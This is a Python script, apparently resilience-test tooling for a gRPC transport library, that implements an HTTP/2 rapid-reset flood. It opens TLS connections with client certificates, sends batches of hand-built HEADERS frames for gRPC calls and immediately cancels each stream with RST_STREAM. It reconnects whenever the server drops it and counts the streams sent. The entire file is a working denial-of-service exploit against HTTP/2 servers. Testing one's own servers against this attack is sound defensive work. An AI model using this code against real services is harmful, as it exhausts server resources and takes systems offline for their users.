"""Opens HTTP/2 streams and resets each at once, as a peer with a valid certificate may do."""

from __future__ import annotations

import asyncio
import contextlib
import struct
import sys
import time
from pathlib import Path

from fleet_transport.sockets import parse_endpoint
from fleet_transport.tls_client import client_context
from fleet_transport.tls_identity import TlsFiles

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _RST_STREAM, _SETTINGS = 1, 3, 4
_END_HEADERS, _END_STREAM = 4, 1
_CANCEL = struct.pack(">I", 8)
_BATCH = 200


def main() -> None:
    """Open and reset streams for SECONDS as fast as the peer takes them, and connect again whenever
    it closes the connection. Print how many streams were sent.
    """
    address, name, path, seconds, *files = sys.argv[1:]
    tls = TlsFiles(*map(Path, files))
    print(asyncio.run(_attack(address, tls, name, path, float(seconds))))


async def _attack(address: str, files: TlsFiles, name: str, path: str, seconds: float) -> int:
    streams = 0
    host, port = parse_endpoint(address)
    deadline_s = time.monotonic() + seconds
    while time.monotonic() < deadline_s:
        with contextlib.suppress(OSError):
            _, writer = await asyncio.open_connection(
                host, port, ssl=client_context(files), server_hostname=name
            )
            streams += await _reset_streams(writer, path, deadline_s)
            writer.transport.abort()
    return streams


async def _reset_streams(writer: asyncio.StreamWriter, path: str, deadline_s: float) -> int:
    streams, header = 0, _request(path)
    writer.write(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
    with contextlib.suppress(OSError):
        while time.monotonic() < deadline_s and not writer.transport.is_closing():
            writer.write(_batch(streams, header))
            await writer.drain()
            await asyncio.sleep(0)
            streams += _BATCH
    return streams


def _batch(before: int, header: bytes) -> bytes:
    frames = bytearray()
    for number in range(before, before + _BATCH):
        stream = 2 * number + 1
        frames += _frame(_HEADERS, _END_HEADERS | _END_STREAM, stream, header)
        frames += _frame(_RST_STREAM, 0, stream, _CANCEL)
    return bytes(frames)


def _frame(kind: int, flags: int, stream: int, content: bytes) -> bytes:
    return struct.pack(">I", len(content))[1:] + struct.pack(">BBI", kind, flags, stream) + content


def _request(path: str) -> bytes:
    """The header block of a gRPC call, in HPACK without a table of its own."""

    def text(content: str) -> bytes:
        return bytes([len(content)]) + content.encode()

    post, http = b"\x83", b"\x86"
    content_type = b"\x0f\x10" + text("application/grpc")  # 31 in the static table
    return (
        post + http + b"\x04" + text(path) + b"\x01" + text("fleet") + content_type
        + b"\x00" + text("te") + text("trailers")
    )  # fmt: skip


if __name__ == "__main__":
    main()
